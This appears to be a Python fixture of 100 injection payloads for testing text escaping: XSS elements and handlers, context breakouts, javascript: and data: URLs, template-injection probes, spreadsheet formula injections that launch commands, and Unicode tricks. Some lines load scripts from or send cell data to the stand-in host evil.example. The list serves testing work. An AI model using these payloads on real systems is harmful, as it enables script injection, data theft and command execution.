"""
A hundred texts that would run, leak or break out if a map took text for anything else.

Written from the ideas of the public cheat sheets: elements that run by themselves, handlers,
ends of whatever the text may stand in, addresses with a scheme, templates, encodings, Unicode
that hides or splits, and names that a program may trip over.
"""

_RUNS = "alert(1)"

# Elements that run something when they are parsed, loaded or seen.
ELEMENTS = [
    f"<script>{_RUNS}</script>",
    f"<ScRiPt >{_RUNS}</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    f"<script type=module>{_RUNS}</script>",
    f"<img src=x onerror={_RUNS}>",
    f"<img/src='x'/onerror='{_RUNS}'>",
    '<img src="https://evil.example/beacon.gif">',
    f"<svg onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script></svg>",
    f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUNS}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUNS}>",
    f"<iframe srcdoc='<script>parent.{_RUNS}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUNS}'></iframe>",
    f"<object data='javascript:{_RUNS}'></object>",
    f"<embed src='javascript:{_RUNS}'>",
    f"<video><source onerror={_RUNS}></video>",
    f"<audio src=x onerror={_RUNS}></audio>",
    f"<details open ontoggle={_RUNS}>x</details>",
    f"<input autofocus onfocus={_RUNS}>",
    f"<select autofocus onfocus={_RUNS}>",
    f"<textarea autofocus onfocus={_RUNS}>",
    f"<body onload={_RUNS}>",
    f"<marquee onstart={_RUNS}>x</marquee>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUNS}>x</b>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUNS}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    f"<form action='javascript:{_RUNS}'><button>x</button></form>",
    f"<button formaction='javascript:{_RUNS}'>x</button>",
    f"<a href='javascript:{_RUNS}'>x</a>",
    f"<a href='&#106;avascript:{_RUNS}'>x</a>",
    f"<p onmouseover={_RUNS}>x</p>",
    f"<div onpointerenter={_RUNS} style='position:fixed;inset:0'>x</div>",
    f"<template><script>{_RUNS}</script></template>",
    f"<x contenteditable onblur={_RUNS}>x</x>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUNS}>">',
]

# Ends of what the text may stand in: attribute, element, script, comment, JSON, template.
ENDS = [
    f"</script><script>{_RUNS}</script>",
    f"</SCRIPT ><svg onload={_RUNS}>",
    "<!--<script>",
    f"--><script>{_RUNS}</script>",
    f"<!--><img src=x onerror={_RUNS}>-->",
    f"]]><img src=x onerror={_RUNS}>",
    f"</title><svg onload={_RUNS}>",
    f"</style><img src=x onerror={_RUNS}>",
    f"</textarea></title></style></noscript><img src=x onerror={_RUNS}>",
    f"</option></select><img src=x onerror={_RUNS}>",
    f"</svg><img src=x onerror={_RUNS}>",
    f"'\"><svg/onload={_RUNS}>",
    f'" onmouseover="{_RUNS}',
    f"' onfocus='{_RUNS}' autofocus='",
    f'" autofocus onfocus={_RUNS} x="',
    f"';{_RUNS}//",
    f'";{_RUNS}//',
    f"\\';{_RUNS}//",
    f"`;{_RUNS}//",
    "`",
    f"`+{_RUNS}+`",
    f"${{{_RUNS}}}",
    '{"$":"text","n":1,"at":0}',
    f"}});{_RUNS};({{",
    f"*/{_RUNS}/*",
    f"\n{_RUNS}\n//",
    f"\u2028{_RUNS}\u2029",
]

# Addresses that are more than an address.
ADDRESSES = [
    f"javascript:{_RUNS}",
    f"JaVaScRiPt:{_RUNS}//http://",
    f"java\tscript:{_RUNS}",
    f"java\nscript:{_RUNS}",
    f" \x01javascript:{_RUNS}",
    f"javascript://example.org/%0a{_RUNS}",
    f"data:text/html,<script>{_RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_RUNS}",
    "blob:null/1",
    "file:///etc/passwd",
    f'https://example.org/"onmouseover="{_RUNS}',
    f"https://example.org/'><img src=x onerror={_RUNS}>",
    "https://user:word@evil.example/",
    "//evil.example/x.js",
]

# Languages of templates, style sheets and spreadsheets.
TEMPLATES = [
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{{ 7 * 7 }}",
    f"{{{{constructor.constructor('{_RUNS}')()}}}}",
    f"<%= {_RUNS} %>",
    "#fff;background:url(https://evil.example/c)",
    "a;=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
]

# Unicode, and words that programs trip over.
STRANGE = [
    "nul \0 byte",
    "lone \ud800 surrogate",
    "\u202eevil\u202c \u2066isolate",
    "\ufeff\u200b\u200dnothing to see",
    f"\uff1cscript\uff1e{_RUNS}\uff1c/script\uff1e",
    "__proto__",
    "constructor",
    '{"__proto__": {"x": 1}}',
]

PAYLOADS = [*ELEMENTS, *ENDS, *ADDRESSES, *TEMPLATES, *STRANGE]

assert len(PAYLOADS) == len(set(PAYLOADS)) == 100, len(PAYLOADS)
